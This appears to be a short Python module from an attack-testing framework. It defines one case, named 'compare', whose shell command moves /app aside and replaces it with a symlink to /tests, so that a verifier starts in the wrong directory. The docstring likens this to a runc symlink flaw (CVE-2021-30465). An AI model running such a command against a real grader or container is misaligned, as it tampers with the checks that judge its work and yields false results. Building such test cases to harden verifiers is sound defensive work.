"""Replaces the working directory by a link to /tests, where the verifier then starts.

Source: CVE-2021-30465 (runc followed a link put in the place of a mount's target).
"""

from attacks.frame import Attack

ATTACK = Attack("compare", "cd /; mv /app /app.old; ln -s /tests /app; true")
